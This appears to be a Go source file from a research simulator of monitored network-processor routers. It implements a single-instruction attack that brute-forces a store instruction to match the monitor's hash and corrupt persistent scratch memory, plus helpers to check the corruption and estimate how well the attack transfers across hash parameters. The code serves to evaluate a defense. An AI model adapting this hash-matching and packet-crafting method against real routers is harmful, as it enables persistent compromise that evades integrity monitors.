@@ -1,0 +1,148 @@
+package attack
+
+import (
+	"fmt"
+
+	"sdmmon/internal/asm"
+	"sdmmon/internal/isa"
+	"sdmmon/internal/mhash"
+)
+
+// This file implements the strongest attack the monitor's semantics leave
+// open and the homogeneity experiment (E6) measures: a *single* engineered
+// instruction that hash-matches the monitor's expected value at the return
+// site, corrupts persistent per-core state (scratch memory), and only then
+// trips the alarm. The packet is dropped — but the damage survives the
+// recovery, because recovery resets core registers, not memory.
+//
+// Against the paper's arithmetic-sum compression the required hash match is
+// parameter-independent (see TestEngineeredAttackTransferability), so one
+// such attack compromises an entire diverse-parameter fleet; the S-box
+// compression confines it to ≈1/16 of routers per attempt.
+
+// PersistTargetOffset is the scratch word the attack corrupts (word 1 —
+// word 0 is the app's CM counter).
+const PersistTargetOffset = 4
+
+// persistVariants enumerates sw $rt, off($t0) with offsets sweeping the
+// scratch region and the stored register ranging over values known to be
+// nonzero at the hijack entry point of ipv4cm ($t0 holds PktBase+20 there,
+// so offset -2064-4k targets scratch word 1+k). Both fields are attacker
+// don't-cares — any nonzero value in any scratch word is corruption — which
+// gives the brute-force search ~2000 hash-diverse candidates.
+func (c SmashConfig) persistVariants() []isa.Word {
+	t0 := c.PktBase + 20
+	// Registers holding nonzero values when the smashed return fires:
+	// v0=1, t0=pkt+20, t2/t8=option length, a0=pkt, s0=ihl, sp, ra.
+	regs := []uint32{isa.RegT0, isa.RegV0, isa.RegA0, isa.RegS0,
+		isa.RegT2, isa.RegT8, isa.RegSP, isa.RegRA}
+	var out []isa.Word
+	for k := 0; k < 255; k++ {
+		target := 0x3800 + 4 + 4*uint32(k) // scratch words 1..255
+		off := int32(target) - int32(t0)
+		for _, rt := range regs {
+			out = append(out, isa.EncodeI(isa.OpSW, isa.RegT0, rt, uint16(int16(off))))
+		}
+	}
+	return out
+}
+
+// PersistAttack engineers the one-instruction scratch-corruption attack
+// against a router whose hash parameter the attacker knows (leaked or
+// brute-forced on one unit of a homogeneous fleet). prog is the installed
+// binary, which AC2 grants the attacker. ok=false when no store variant
+// hash-matches under h.
+func (c SmashConfig) PersistAttack(prog *asm.Program, h mhash.Hasher) (pkt []byte, ok bool, err error) {
+	retSite, err := returnSiteAfterEntryCall(prog)
+	if err != nil {
+		return nil, false, err
+	}
+	retWord, okw := prog.WordAt(retSite)
+	if !okw {
+		return nil, false, fmt.Errorf("attack: return site 0x%x not code", retSite)
+	}
+	want := h.Hash(uint32(retWord))
+	for _, v := range c.persistVariants() {
+		if h.Hash(uint32(v)) == want {
+			p, err := c.CraftPacket([]isa.Word{v})
+			if err != nil {
+				return nil, false, err
+			}
+			return p, true, nil
+		}
+	}
+	return nil, false, nil
+}
+
+// returnSiteAfterEntryCall finds the instruction address following the
+// first jal in the program: the graph position the monitor lands on after
+// the smashed jr $ra.
+func returnSiteAfterEntryCall(prog *asm.Program) (uint32, error) {
+	for _, cw := range prog.CodeWords() {
+		if cw.W.Op() == isa.OpJAL {
+			return cw.Addr + 4, nil
+		}
+	}
+	return 0, fmt.Errorf("attack: no call site in binary")
+}
+
+// PersistCompromised checks per-core scratch memory for the corruption
+// marker the persist attack leaves.
+type ScratchReader interface {
+	Scratch(coreID, off, n int) ([]byte, error)
+}
+
+// PersistSucceeded reports whether any scratch word 1..255 of the core is
+// nonzero (the persist attack's footprint; the benign apps only touch
+// word 0 and the protocol counter table of the counter app — run the
+// experiment with ipv4cm).
+func PersistSucceeded(r ScratchReader, coreID int) (bool, error) {
+	b, err := r.Scratch(coreID, PersistTargetOffset, 255*4)
+	if err != nil {
+		return false, err
+	}
+	for _, x := range b {
+		if x != 0 {
+			return true, nil
+		}
+	}
+	return false, nil
+}
+
+// TransferProbability returns the analytic probability that a persist
+// attack engineered for one parameter also matches under an independent
+// random parameter, for the given hasher family: 1.0 for the sum
+// compression (the collapse finding), ≈1/16 for an ideal parameterized
+// hash.
+func TransferProbability(mk func(uint32) mhash.Hasher, samples int, seed int64) float64 {
+	// Reuse the mhash sensitivity machinery indirectly: a transfer happens
+	// iff h'(attack) == h'(valid) given h(attack) == h(valid).
+	rng := newLCG(seed)
+	hits, total := 0, 0
+	for total < samples {
+		p0 := uint32(rng.next())
+		h0 := mk(p0)
+		a := uint32(rng.next())
+		b := uint32(rng.next())
+		if h0.Hash(a) != h0.Hash(b) {
+			continue // not a valid engineered pair under h0
+		}
+		h1 := mk(uint32(rng.next()))
+		if h1.Hash(a) == h1.Hash(b) {
+			hits++
+		}
+		total++
+	}
+	return float64(hits) / float64(samples)
+}
+
+// newLCG is a tiny deterministic generator so this package does not drag
+// math/rand into non-test code paths that want reproducibility.
+type lcg struct{ s uint64 }
+
+func newLCG(seed int64) *lcg { return &lcg{s: uint64(seed)*2862933555777941757 + 3037000493} }
+
+func (l *lcg) next() uint64 {
+	l.s = l.s*6364136223846793005 + 1442695040888963407
+	return l.s >> 16
+}
